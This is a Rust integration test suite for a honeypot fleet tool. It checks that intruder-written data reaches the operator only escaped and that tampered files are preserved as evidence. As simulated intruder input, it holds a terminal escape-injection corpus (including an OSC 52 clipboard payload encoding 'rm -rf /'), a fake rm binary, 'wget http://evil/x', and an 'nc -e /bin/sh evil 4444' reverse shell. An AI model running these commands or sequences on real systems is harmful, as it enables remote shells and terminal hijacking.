//! The intruder is root inside a decky (SPEC §8): whatever it writes reaches
//! the operator only escaped.

mod common;

use common::{docker, Fleet};

/// Decky a with an ssh service and a bash history of `$history`.
macro_rules! decky_with_history {
    ($history:literal) => {
        concat!(
            fleet_table!(),
            ssh_service!(),
            "\n[deckies.{fleet}-a]\nservices = [\"ssh\"]\n\n[deckies.{fleet}-a.files.\"/home/admin/.bash_history\"]\ncontent = \"",
            $history,
            "\\n\"\n"
        )
    };
}

const CONFIG: &str = concat!(
    decky_with_history!("ls -la"),
    r#"
[deckies.{fleet}-a.files."/srv/old"]
content = "to be deleted\n"
"#
);

/// What an intruder writes to attack the operator's terminal: CSI (clear the
/// screen, erase the line above), OSC 52 (set the clipboard), an OSC 8 link,
/// DCS, 8-bit CSI, CR, BS, DEL, a bidi override, VT and FF, 8-bit NEL, DCS,
/// OSC and APC, and the invisible direction marks (ALM, LRM, RLM). NUL makes
/// a file binary, so it has its own check.
const CORPUS: &str = "\x1b[2J\x1b[1A\x1b[2K\x1b]52;c;cm0gLXJmIC8=\x07\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\x1bP1$r\x1b\\\u{9b}31mNo changes.\r\x08\x7f\u{202e}txt.exe\x0b\x0c\u{85}\u{90}1$r\u{9c}\u{9d}0;pwned\u{7}\u{9f}x\u{9c}\u{61c}\u{200e}\u{200f}";

/// Every character that must never reach the terminal raw, found in `out`.
fn raw_controls(out: &str) -> Vec<char> {
    out.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || ['\u{61c}', '\u{200e}', '\u{200f}'].contains(c)
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
        })
        .collect()
}

#[test]
fn an_intruders_escape_sequences_reach_no_plan_raw() {
    let fleet = Fleet::new("esc");
    fleet.write(CONFIG);
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    let script = format!("printf '%s\\n' '{CORPUS}' >> /home/admin/.bash_history");
    docker(&["exec", &ssh, "sh", "-c", &script]);
    for format in ["text", "markdown"] {
        let plan = fleet.deckhand(&["plan", "--no-color", "--format", format]);
        assert_eq!(plan.code, 0, "{plan:?}");
        assert!(plan.stdout.contains("content changed"), "{plan:?}");
        assert_eq!(
            raw_controls(&plan.all()),
            Vec::<char>::new(),
            "{format}: {plan:?}"
        );
        for shown in [
            "\\x1b[2J",
            "\\x1b]52;c;",
            "\\x9b31m",
            "\\x0d",
            "\\x7f",
            "\\u202e",
            "\\x0b\\x0c\\x85\\x901$r\\x9c\\x9d0;pwned\\x07\\x9fx\\x9c\\u061c\\u200e\\u200f",
        ] {
            assert!(
                plan.stdout.contains(shown),
                "{format} does not show {shown}: {plan:?}"
            );
        }
    }
    // JSON carries the same characters, each control as a \uXXXX escape.
    let json = fleet.deckhand(&["plan", "--format", "json"]);
    let value: serde_json::Value =
        serde_json::from_str(&json.stdout).expect("the JSON plan parses");
    let diffs = value["changes"].as_array().unwrap().iter();
    let mut diffs = diffs.filter_map(|c| c["content"]["diff"].as_str());
    // The same characters back, in two lines (a CR ends a line of a diff).
    let (head, tail) = CORPUS.split_once('\r').unwrap();
    assert!(
        diffs.any(|d| d.contains(head) && d.contains(tail)),
        "{json:?}"
    );
    assert_eq!(raw_controls(&json.all()), Vec::<char>::new(), "{json:?}");
    assert!(json.stdout.contains(r"\u009b31m"), "{json:?}");
    // A NUL makes the file binary: shown by size and digest, never raw.
    docker(&[
        "exec",
        &ssh,
        "sh",
        "-c",
        "printf 'a\\000b\\n' >> /home/admin/.bash_history",
    ]);
    let binary = fleet.deckhand(&["plan", "--no-color", "--format", "markdown"]);
    assert!(binary.stdout.contains("binary content"), "{binary:?}");
    let run = fleet.deckhand(&["apply", "--auto-approve", "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(raw_controls(&run.all()), Vec::<char>::new(), "{run:?}");
    for line in run.stdout.lines() {
        serde_json::from_str::<serde_json::Value>(line).expect("each event parses");
    }
}

#[test]
fn an_intruders_rm_cannot_write_to_the_operators_terminal() {
    let fleet = Fleet::new("escrm");
    fleet.write(CONFIG);
    fleet.apply();
    // The intruder replaces rm with a program that prints an OSC title sequence.
    let ssh = fleet.n("a-ssh");
    let fake_rm = "rm /bin/rm && printf '#!/bin/sh\\nprintf \"\\\\033]0;pwned\\\\007\\\\033[2J gone\" >&2\\nexit 1\\n' > /bin/rm && chmod 755 /bin/rm";
    docker(&["exec", &ssh, "sh", "-c", fake_rm]);
    fleet.write(&CONFIG.replace(
        "[deckies.{fleet}-a.files.\"/srv/old\"]\ncontent = \"to be deleted\\n\"\n",
        "",
    ));
    // Its rm runs only where deckhand cannot delete from the host.
    let run = common::deckhand_in(
        fleet.dir.path(),
        &["apply", "--auto-approve", "--no-color"],
        &[("DECKHAND_READ", "engine")],
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stdout.contains("rm exited with status 1"), "{run:?}");
    assert!(run.stdout.contains("\\x1b]0;pwned\\x07"), "{run:?}");
    assert_eq!(raw_controls(&run.all()), Vec::<char>::new(), "{run:?}");
}

const BAIT: &str = concat!(
    decky_with_history!("ls"),
    r#"
[deckies.{fleet}-a.files."/root/.aws/credentials"]
content = "key = Declared-Secret-1\n"
sensitive = true
"#
);

/// Every copy kept under the fleet's evidence directory (sidecars aside).
fn copies(fleet: &Fleet) -> Vec<std::path::PathBuf> {
    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else if p.extension().is_none_or(|x| x != "json") {
                out.push(p);
            }
        }
    }
    let mut out = Vec::new();
    walk(&fleet.dir.path().join(".deckhand/evidence"), &mut out);
    out.sort();
    out
}

fn sidecar(copy: &std::path::Path) -> serde_json::Value {
    let json = std::fs::read_to_string(format!("{}.json", copy.display())).unwrap();
    serde_json::from_str(&json).unwrap()
}

#[test]
fn an_intruders_edit_is_kept_before_it_is_undone_and_an_operators_is_not() {
    use std::os::unix::fs::PermissionsExt as _;
    let fleet = Fleet::new("evid");
    fleet.write(BAIT);
    fleet.apply();
    // The operator's edit: deckhand wrote what is live, so nothing is kept.
    fleet.write(&BAIT.replace("content = \"ls\\n\"", "content = \"ls -la\\n\""));
    fleet.apply();
    assert_eq!(copies(&fleet), Vec::<std::path::PathBuf>::new());

    let ssh = fleet.n("a-ssh");
    docker(&["exec", &ssh, "sh", "-c", "echo 'wget http://evil/x' >> /home/admin/.bash_history; echo 'key = Intruder-Secret-2' > /root/.aws/credentials"]);
    let plan = fleet.plan();
    assert_eq!(
        plan.stdout.matches("evidence kept first").count(),
        2,
        "{plan:?}"
    );
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        !run.all().contains("Intruder-Secret-2") && !plan.all().contains("Intruder-Secret-2"),
        "{run:?}"
    );
    let kept = copies(&fleet);
    assert_eq!(kept.len(), 2, "{kept:?}\n{run:?}");
    let history = kept
        .iter()
        .find(|p| {
            p.to_string_lossy().contains("/local/")
                && p.to_string_lossy().contains("home/admin/.bash_history/")
        })
        .expect("the history's copy");
    assert_eq!(
        std::fs::read(history).unwrap(),
        b"ls -la\nwget http://evil/x\n"
    );
    let meta = sidecar(history);
    assert_eq!(meta["size"], 26, "{meta}");
    assert_eq!(meta["decky"], fleet.n("a"));
    assert!(
        meta["container_id"]
            .as_str()
            .is_some_and(|id| id.len() == 64),
        "{meta}"
    );
    for key in ["sha256", "mode", "owner", "mtime", "observed_at"] {
        assert!(meta.get(key).is_some(), "{key}: {meta}");
    }
    // Both times read alike: RFC 3339, UTC.
    for key in ["mtime", "observed_at"] {
        let t = meta[key].as_str().unwrap_or_default();
        let parsed = time::OffsetDateTime::parse(t, &time::format_description::well_known::Rfc3339);
        assert!(parsed.is_ok() && t.ends_with('Z'), "{key}: {meta}");
    }
    let secret = kept
        .iter()
        .find(|p| p.to_string_lossy().contains(".aws/credentials"))
        .unwrap();
    assert_eq!(
        std::fs::read(secret).unwrap(),
        b"key = Intruder-Secret-2\n",
        "kept on disk, shown nowhere"
    );
    assert_eq!(
        std::fs::metadata(secret).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let dir = fleet.dir.path().join(".deckhand/evidence");
    assert_eq!(
        std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
        0o700
    );
    assert_eq!(
        common::cat(&ssh, "/home/admin/.bash_history"),
        b"ls -la\n",
        "restored after the copy"
    );
    fleet.assert_no_changes();
}

#[test]
fn a_containers_own_changes_are_kept_before_a_replace_and_a_destroy() {
    let fleet = Fleet::new("layer");
    fleet.write(BAIT);
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    docker(&[
        "exec",
        &ssh,
        "sh",
        "-c",
        "echo 'nc -e /bin/sh evil 4444' > /tmp/backdoor.sh",
    ]);
    fleet.write(&BAIT.replace(
        "command = [\"sleep\", \"infinity\"]",
        "command = [\"sleep\", \"99999\"]",
    ));
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    let tars: Vec<_> = copies(&fleet)
        .into_iter()
        .filter(|p| p.to_string_lossy().contains("/layer/"))
        .collect();
    assert_eq!(tars.len(), 1, "{run:?}");
    let listed = sidecar(&tars[0]).to_string();
    assert!(
        listed.contains("/tmp/backdoor.sh") && !listed.contains(".bash_history"),
        "deckhand's own files are not evidence: {listed}"
    );
    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
    let names: Vec<String> = archive
        .entries()
        .unwrap()
        .map(|e| e.unwrap().path().unwrap().display().to_string())
        .collect();
    assert!(names.contains(&"tmp/backdoor.sh".to_string()), "{names:?}");

    let base = fleet.n("a");
    docker(&["exec", &base, "sh", "-c", "echo loot > /root/loot.txt"]);
    let run = fleet.deckhand(&["destroy", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    let base_tar = copies(&fleet)
        .into_iter()
        .find(|p| p.to_string_lossy().contains(&format!("/{base}/layer/")));
    assert!(sidecar(&base_tar.expect("the base's layer"))
        .to_string()
        .contains("/root/loot.txt"));
}

#[test]
fn evidence_that_cannot_be_kept_fails_the_step_and_leaves_the_file() {
    let fleet = Fleet::new("evfail");
    fleet.write(&BAIT.replace(
        "base_image",
        "evidence_dir = \"blocker/evidence\"\nbase_image",
    ));
    fleet.write_file("blocker", b"a file where the evidence directory would be");
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    docker(&[
        "exec",
        &ssh,
        "sh",
        "-c",
        "echo 'id' >> /home/admin/.bash_history",
    ]);
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stdout.contains("evidence could not be kept"), "{run:?}");
    assert!(
        !run.stdout.contains("it converges."),
        "no promise when the cause stays: {run:?}"
    );
    assert_eq!(
        common::cat(&ssh, "/home/admin/.bash_history"),
        b"ls\nid\n",
        "the intruder's file is left"
    );
}

const THREE: &str = concat!(
    fleet_table!(),
    r#"
[deckies.{fleet}-a]
services = []

[deckies.{fleet}-a.files."/srv/a/bait"]
content = "a\n"

[deckies.{fleet}-b]
services = []

[deckies.{fleet}-b.files."/srv/b/dir/bait"]
content = "b\n"

[deckies.{fleet}-c]
services = []

[deckies.{fleet}-c.files."/srv/c"]
content = "c\n"
"#
);

/// In decky a the bait becomes a directory; in decky b a file stands where
/// the bait's directory was; decky c's bait is edited.
fn plant(fleet: &Fleet) {
    docker(&[
        "exec",
        &fleet.n("a"),
        "sh",
        "-c",
        "rm /srv/a/bait && mkdir -p /srv/a/bait/loot && echo x > /srv/a/bait/loot/y",
    ]);
    docker(&[
        "exec",
        &fleet.n("b"),
        "sh",
        "-c",
        "rm -r /srv/b/dir && echo planted > /srv/b/dir",
    ]);
    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
}

fn healed(fleet: &Fleet) -> bool {
    let cat = |d: &str, p: &str| common::docker_try(&["exec", &fleet.n(d), "cat", p]);
    cat("a", "/srv/a/bait") == (true, "a\n".into())
        && cat("b", "/srv/b/dir/bait") == (true, "b\n".into())
        && cat("c", "/srv/c") == (true, "c\n".into())
}

#[test]
fn one_deckys_planted_paths_stop_no_other_and_are_kept_then_cleared() {
    let fleet = Fleet::new("iso");
    fleet.write(THREE);
    fleet.apply();
    plant(&fleet);
    let plan = fleet.plan();
    assert_eq!(plan.code, 0, "{plan:?}");
    assert!(
        plan.stdout
            .contains("a directory is at the path live: removed"),
        "{plan:?}"
    );
    assert!(
        plan.stdout
            .contains("stands where a directory belongs: removed"),
        "{plan:?}"
    );
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(healed(&fleet), "{run:?}");
    let kept = copies(&fleet);
    assert!(
        kept.iter()
            .any(|p| p.to_string_lossy().contains("srv/a/bait/")),
        "the planted directory is kept: {kept:?}"
    );
    assert!(
        kept.iter()
            .any(|p| p.to_string_lossy().contains("srv/b/dir/")),
        "the planted file is kept: {kept:?}"
    );
    fleet.assert_no_changes();

    // The same again under watch: healed at the next interval.
    let watch = common::watch::Watch::start(&fleet, 1);
    plant(&fleet);
    common::watch::within(std::time::Duration::from_secs(20), || healed(&fleet))
        .unwrap_or_else(|| panic!("watch did not heal:\n{}", watch.output()));
    let c = fleet.n("c");
    assert!(
        watch
            .output()
            .contains(&format!("file {c}:/srv/c: updated")),
        "{}",
        watch.output()
    );
}

#[test]
fn a_directory_the_image_has_fails_only_its_own_decky() {
    let fleet = Fleet::new("isoimg");
    fleet.write(THREE);
    fleet.apply();
    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
    // The operator's mistake: /bin is a directory of the image.
    fleet.write(&format!(
        "{THREE}\n[deckies.{{fleet}}-a.files.\"/bin\"]\ncontent = \"oops\"\n"
    ));
    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout.contains("deckhand never wrote this file"),
        "{run:?}"
    );
    assert!(
        healed(&fleet),
        "the other deckies are still healed: {run:?}"
    );
    assert!(
        common::docker_try(&["exec", &fleet.n("a"), "ls", "/bin/sh"]).0,
        "nothing was removed"
    );
}

#[test]
fn under_on_drift_report_an_intruders_edit_is_reported_kept_once_and_left() {
    let fleet = Fleet::new("report");
    let config = THREE.replace(
        "base_image = \"{image}\"\n",
        "base_image = \"{image}\"\non_drift = \"report\"\n",
    );
    fleet.write(&config);
    fleet.apply();
    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
    let plan = fleet.plan();
    assert!(plan.stdout.contains("drift file"), "{plan:?}");
    assert!(plan.stdout.contains("left as found"), "{plan:?}");
    for _ in 0..2 {
        let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(run.stdout.contains("drift file"), "{run:?}");
    }
    assert_eq!(
        common::cat(&fleet.n("c"), "/srv/c"),
        b"tampered\n",
        "left as the intruder left it"
    );
    assert_eq!(copies(&fleet).len(), 1, "kept once: {:?}", copies(&fleet));
    // The operator's own edit still applies.
    fleet.write(&config.replace("content = \"a\\n\"", "content = \"a2\\n\""));
    fleet.apply();
    assert_eq!(common::cat(&fleet.n("a"), "/srv/a/bait"), b"a2\n");
}
